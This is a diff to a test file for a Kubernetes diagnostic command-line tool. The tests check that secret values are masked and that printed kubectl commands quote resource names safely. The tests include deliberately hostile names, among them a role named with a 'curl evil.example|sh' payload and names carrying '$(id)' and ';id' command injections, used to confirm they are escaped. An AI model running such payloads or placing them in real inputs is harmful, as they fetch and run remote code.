@@ -1,5 +1,6 @@
 /** Ten faults of clusters, staged on a server: one command of the program names the cause of each, and what can be done. */
 import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
 import { once } from "node:events";
 import https from "node:https";
 import type { AddressInfo } from "node:net";
@@ -14,6 +15,9 @@ import { type Ended, runProgram, type Serving, serveProgram } from "./program.ts
 const day = 86_400_000;
 /** An address at which nobody listens. */
 const nowhere = "https://127.0.0.1:1/";
+/** The name of a role that a shell would take for commands. */
+const hostile = "x'; curl evil.example|sh #";
+const lastApplied = "kubectl.kubernetes.io/last-applied-configuration";
 
 void describe("staged faults", () => {
   let folder: string;
@@ -70,6 +74,24 @@ void describe("staged faults", () => {
       });
     await bind("readers", "Role", "reader", "alice");
     await bind("editors", "ClusterRole", "edit", "bob");
+    for (const name of [hostile, "--all"]) {
+      const finalizers = ["evil.example/x", "kubernetes.io/pvc-protection"];
+      await post(cluster, `${rbac}/roles`, { metadata: { name, finalizers } });
+      await cluster.call({ method: "DELETE", path: `${rbac}/roles/${encodeURIComponent(name)}` });
+    }
+    await post(cluster, `${rbac}/roles`, { metadata: { name: "$(id)" } });
+    await cluster.call({ method: "DELETE", path: `${rbac}/roles/${encodeURIComponent("$(id)")}` });
+    for (const [user, namespace] of [
+      ["system:serviceaccount:shop:scanner", "%24(id%3Ecurl)"],
+      ["system:serviceaccount:shop:a;id", "shop"],
+    ] as const) {
+      await as(user, async (stranger) => {
+        for (let time = 0; time < 4; time++) {
+          const path = `/api/v1/namespaces/${namespace}/pods`;
+          await assert.rejects(stranger.call({ method: "GET", path }), /forbidden/);
+        }
+      });
+    }
     await stageObjects(cluster);
     await stageConversion(cluster);
     await as("system:serviceaccount:shop:robot", async (robot) => {
@@ -103,6 +125,21 @@ void describe("staged faults", () => {
       const path = `${web}/web?fieldManager=${manager}`;
       const contentType = "application/merge-patch+json";
       await cluster.call({ method: "PATCH", path, body: { spec: { replicas } }, contentType });
+    }
+    await post(cluster, `${core("shop")}/secrets?fieldManager=a`, {
+      metadata: { name: "password", annotations: { [lastApplied]: "hunter2" } },
+      stringData: { "it-s": "hunter2-0" },
+    });
+    for (const time of [1, 2, 3, 4]) {
+      await cluster.call({
+        method: "PATCH",
+        path: `${core("shop")}/secrets/password?fieldManager=${time % 2 === 0 ? "a" : "b"}`,
+        body: {
+          metadata: { annotations: { [lastApplied]: `hunter2-${time}` } },
+          stringData: { "it-s": `hunter2-${time}` },
+        },
+        contentType: "application/merge-patch+json",
+      });
     }
     const condition = {
       type: "ReplicaFailure",
@@ -207,6 +244,12 @@ void describe("staged faults", () => {
     return found;
   }
 
+  /** Returns the words that a shell makes of a command. */
+  const shellWords = (command: string): readonly string[] =>
+    execFileSync("sh", ["-c", `printf '%s\\0' ${command}`], { encoding: "utf8" })
+      .split("\0")
+      .slice(0, -1);
+
   void test("a denied request: why names the rule that comes nearest, what it lacks and what would allow it", async () => {
     const text = await out("why delete secrets/token -n shop --as=alice", 1);
     assert.match(text, /RoleBinding shop\/readers gives Role shop\/reader: get, list on secrets/);
@@ -221,7 +264,8 @@ void describe("staged faults", () => {
       return shown;
     });
     assert.match(text, /waits for whoever removes the finalizer example\.com\/cleanup \(set by operator\)/);
-    const command = `kubectl patch configmaps kept -n stuck --type=merge -p '{"metadata":{"finalizers":null}}'`;
+    const patch = `[{"op":"test","path":"/metadata/finalizers/0","value":"example.com/cleanup"},{"op":"remove","path":"/metadata/finalizers/0"}]`;
+    const command = `kubectl patch configmaps kept -n stuck --type=json -p '${patch}'`;
     assert.ok(text.includes(`\n  ${command}\n`), text);
     const { next } = JSON.parse(await out("tree ns stuck -o json")) as { readonly next: readonly string[] };
     assert.deepStrictEqual(next, [command]);
@@ -233,7 +277,7 @@ void describe("staged faults", () => {
       text,
       /^FOUGHT OVER {2}spec\.replicas: pipeline and scaler changed it in turn, 4 times.*\(values: 2, 6, 5\)\.$/m,
     );
-    assert.match(text, /binnacle blame deployments web -n shop --give-up='spec\.replicas' --manager=NAME/);
+    assert.match(text, /binnacle blame deployments web -n shop --give-up=spec\.replicas --manager=NAME/);
     const { fights } = JSON.parse(await out("blame deploy web -n shop -o json")) as {
       readonly fights: readonly { readonly path: string; readonly managers: readonly string[] }[];
     };
@@ -241,6 +285,64 @@ void describe("staged faults", () => {
       fights.map(({ path, managers }) => [path, managers]),
       [["spec.replicas", ["pipeline", "scaler"]]],
     );
+  });
+
+  void test("a Secret fought over: blame names the field, and shows values only where it is told to", async () => {
+    const hidden = /hunter2|aHVudGVyMi/;
+    const text = await out("blame secret password -n shop");
+    assert.match(text, /^FOUGHT OVER {2}data\.it-s: .*\(values: "\*\*\*", "\*\*\*", "\*\*\*"\)\.$/m);
+    assert.match(text, /^FOUGHT OVER {2}metadata\.annotations\["kubectl/m);
+    assert.match(text, / '--give-up=metadata\.annotations\["kubectl[^ ]*"\]' --manager=NAME$/m);
+    assert.doesNotMatch(text, hidden);
+    const data = await out("blame secret password -n shop -o json");
+    const { fights } = JSON.parse(data) as { readonly fights: readonly { readonly values: readonly unknown[] }[] };
+    assert.deepStrictEqual(fights[0]?.values, ["***", "***", "***"]);
+    assert.doesNotMatch(data, hidden);
+    const field = "data.it-s";
+    const given = await out(`blame secret password -n shop --give-up=${field} --manager=a --dry-run -o json`);
+    assert.match(given, /"it-s": ?"\*\*\*"/);
+    assert.doesNotMatch(given, hidden);
+    const shown = await out("blame secret password -n shop --show-secrets");
+    const value = Buffer.from("hunter2-3").toString("base64");
+    assert.match(shown, new RegExp(`^FOUGHT OVER.*${value}`, "m"));
+    assert.ok((await out("blame secret password -n shop --show-secrets -o json")).includes(value));
+  });
+
+  void test("a role with a hostile name: printed commands are about it, and remove the finalizer of nobody else", async () => {
+    const { code, stdout, stderr } = await run("tree", "role", hostile, "-n", "shop");
+    assert.equal(code, 0, stderr);
+    const [, command = ""] = /^ {2}kubectl (.*)$/m.exec(stdout) ?? [];
+    const words = shellWords(command);
+    assert.deepStrictEqual(words.slice(0, 3), ["patch", "roles.rbac.authorization.k8s.io", hostile]);
+    assert.deepStrictEqual(JSON.parse(words.at(-1)!), [
+      { op: "test", path: "/metadata/finalizers/0", value: "evil.example/x" },
+      { op: "remove", path: "/metadata/finalizers/0" },
+    ]);
+    const path = `/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/${encodeURIComponent(hostile)}`;
+    const { metadata } = await as(undefined, (cluster) =>
+      cluster.call<{ readonly metadata: object }>({
+        method: "PATCH",
+        path,
+        body: JSON.parse(words.at(-1)!) as object,
+        contentType: "application/json-patch+json",
+      }),
+    );
+    assert.deepStrictEqual((metadata as { readonly finalizers?: unknown }).finalizers, [
+      "kubernetes.io/pvc-protection",
+    ]);
+    assert.match(
+      await out("tree role/--all -n shop"),
+      /^ {2}kubectl patch roles\.rbac\.authorization\.k8s\.io\/--all -n/m,
+    );
+    assert.match(await out("history role $(id) -n shop"), /: binnacle undelete roles '\$\(id\)' -n shop$/m);
+  });
+
+  void test("refused requests about names that are none: the doctor tells them and prints no command", async () => {
+    const text = await diagnosis("serviceaccount/scanner in shop");
+    assert.match(text, /list pods in namespace \$\(id>curl\) \(4 times\)/);
+    assert.doesNotMatch(text, /binnacle why/);
+    const quoted = await diagnosis("serviceaccount/a;id in shop");
+    assert.match(quoted, /binnacle why list pods -n shop '--as=system:serviceaccount:shop:a;id'$/m);
   });
 
   void test("a deleted object: history and changes name who deleted it, and the command that brings it back", async () => {
